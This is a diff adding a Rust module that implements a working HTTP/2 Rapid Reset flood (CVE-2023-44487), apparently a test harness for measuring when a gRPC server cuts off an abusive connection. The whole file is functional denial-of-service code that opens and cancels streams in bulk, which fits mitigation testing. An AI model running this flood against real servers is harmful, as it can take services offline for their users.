@@ -1,0 +1,206 @@
+//! An HTTP/2 Rapid Reset flood (CVE-2023-44487), from a raw client: on one
+//! connection, streams opened (a gRPC request's HEADERS) and reset at once
+//! (RST_STREAM CANCEL), as fast as the socket takes them or at a set rate,
+//! until the server cuts the connection off or the flood is told to stop.
+//!
+//! Blocking, on threads of its own: a flood must not wait for the runtime
+//! of the server it floods.
+
+// The flood paces itself on the wall clock of its own threads; no runtime
+// (and no paused clock) is involved.
+#![allow(clippy::disallowed_types)]
+
+use std::io::{Read, Write};
+use std::net::{Shutdown, SocketAddr, TcpStream};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
+
+use crate::frames::{END_HEADERS, FrameParser, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS};
+
+/// HTTP/2's `CANCEL`, the code of every reset.
+const CANCEL: u32 = 0x8;
+
+/// How a flood sends.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Shape {
+    /// Streams per second; `None`: as fast as the socket takes them.
+    pub rate: Option<u32>,
+    /// The `grpc-timeout` each stream carries (`None`: none, as the
+    /// published attack tools send).
+    pub grpc_timeout: Option<&'static str>,
+}
+
+impl Shape {
+    /// As fast as the socket takes them, faster than a server accepts.
+    pub const FAST: Shape = Shape {
+        rate: None,
+        grpc_timeout: None,
+    };
+
+    /// `rate` streams per second.
+    pub const fn at(rate: u32) -> Shape {
+        Shape {
+            rate: Some(rate),
+            grpc_timeout: None,
+        }
+    }
+}
+
+/// What one flooding connection saw.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Flood {
+    /// Streams written (opened and reset).
+    pub sent: u32,
+    /// The GOAWAY the server sent, if one came: its error code and the
+    /// last stream it processed.
+    pub go_away: Option<(u32, u32)>,
+    /// The server closed (or reset) the connection.
+    pub closed: bool,
+    /// From the first stream to the cut, or to the stop.
+    pub lasted: Duration,
+}
+
+impl Flood {
+    /// The streams the server took before it cut the connection: the last
+    /// one its GOAWAY names, or — without a GOAWAY — those written.
+    pub fn before_cut(&self) -> u32 {
+        match self.go_away {
+            Some((_, last)) => last.div_ceil(2),
+            None => self.sent,
+        }
+    }
+
+    /// Whether the server cut the connection off.
+    pub fn was_cut(&self) -> bool {
+        self.closed || self.go_away.is_some()
+    }
+}
+
+/// A request's header block in HPACK, with no dynamic table (the same bytes
+/// fit every stream): POST http `path`, application/grpc, te: trailers, and
+/// `grpc-timeout` when given.
+pub fn request_block(authority: &str, path: &str, grpc_timeout: Option<&str>) -> Vec<u8> {
+    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static)
+    let literal = |block: &mut Vec<u8>, name_index: u8, value: &[u8]| {
+        block.push(name_index); // literal without indexing, indexed name
+        block.push(u8::try_from(value.len()).expect("a short value"));
+        block.extend_from_slice(value);
+    };
+    literal(&mut block, 0x04, path.as_bytes()); // :path
+    literal(&mut block, 0x01, authority.as_bytes()); // :authority
+    block.extend([0x0f, 0x10]); // content-type (static index 31)
+    block.push(16);
+    block.extend_from_slice(b"application/grpc");
+    let new_name = |block: &mut Vec<u8>, name: &[u8], value: &[u8]| {
+        block.push(0x00); // literal without indexing, new name
+        block.push(u8::try_from(name.len()).expect("a short name"));
+        block.extend_from_slice(name);
+        block.push(u8::try_from(value.len()).expect("a short value"));
+        block.extend_from_slice(value);
+    };
+    new_name(&mut block, b"te", b"trailers");
+    if let Some(timeout) = grpc_timeout {
+        new_name(&mut block, b"grpc-timeout", timeout.as_bytes());
+    }
+    block
+}
+
+/// Appends one frame to `out`.
+pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let len = payload.len();
+    out.extend([(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
+    out.extend(stream.to_be_bytes());
+    out.extend_from_slice(payload);
+}
+
+/// Floods `addr` on one new connection until the server cuts it off,
+/// `stop` is set, or `give_up` has passed.
+///
+/// # Panics
+///
+/// When the server does not accept the connection.
+pub fn flood(
+    addr: SocketAddr,
+    path: &str,
+    shape: Shape,
+    stop: &AtomicBool,
+    give_up: Duration,
+) -> Flood {
+    let mut tcp = TcpStream::connect(addr).expect("the server accepts TCP");
+    tcp.set_nodelay(true).expect("nodelay");
+    let mut start = PREFACE.to_vec();
+    frame(&mut start, SETTINGS, 0, 0, &[]);
+    tcp.write_all(&start).expect("the preface is taken");
+    let mut reader = tcp.try_clone().expect("a second handle");
+    // Set once the server has said GOAWAY or closed: the flood stops there.
+    let cut = std::sync::Arc::new(AtomicBool::new(false));
+    let read_side = std::thread::spawn({
+        let cut = cut.clone();
+        move || {
+            let mut parser = FrameParser::server_to_client();
+            let mut buf = vec![0; 64 * 1024];
+            let mut go_away = None;
+            while let Ok(n @ 1..) = reader.read(&mut buf) {
+                for parsed in parser.feed(&buf[..n]) {
+                    if parsed.frame.kind == GOAWAY && parsed.payload.len() >= 8 {
+                        let p = &parsed.payload;
+                        let last = u32::from_be_bytes([p[0], p[1], p[2], p[3]]) & 0x7fff_ffff;
+                        go_away = Some((parsed.error_code().unwrap_or_default(), last));
+                        cut.store(true, Ordering::Relaxed);
+                    }
+                }
+            }
+            cut.store(true, Ordering::Relaxed);
+            go_away
+        }
+    });
+    let block = request_block(&addr.to_string(), path, shape.grpc_timeout);
+    // A write a few milliseconds' worth at the set rate, or 512 streams.
+    let (per_write, every) = match shape.rate {
+        None => (512, Duration::ZERO),
+        Some(rate) => {
+            let per_write = (rate / 500).max(1);
+            (
+                per_write,
+                Duration::from_secs_f64(f64::from(per_write) / f64::from(rate)),
+            )
+        }
+    };
+    let started = Instant::now();
+    let mut sent = 0u32;
+    let mut closed = false;
+    let mut batch = Vec::new();
+    let mut id = 1u32;
+    while !stop.load(Ordering::Relaxed) && started.elapsed() < give_up {
+        if cut.load(Ordering::Relaxed) {
+            closed = true;
+            break;
+        }
+        batch.clear();
+        for _ in 0..per_write {
+            frame(&mut batch, HEADERS, END_HEADERS, id, &block);
+            frame(&mut batch, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
+            id += 2;
+        }
+        if tcp.write_all(&batch).is_err() {
+            closed = true;
+            break;
+        }
+        sent += per_write;
+        if !every.is_zero() {
+            // Paced from the start, so a late wake-up is made up for.
+            let due = every.mul_f64(f64::from(sent / per_write));
+            if let Some(wait) = due.checked_sub(started.elapsed()) {
+                std::thread::sleep(wait);
+            }
+        }
+    }
+    let lasted = started.elapsed();
+    let _ = tcp.shutdown(Shutdown::Both);
+    Flood {
+        sent,
+        go_away: read_side.join().expect("the reading thread"),
+        closed,
+        lasted,
+    }
+}
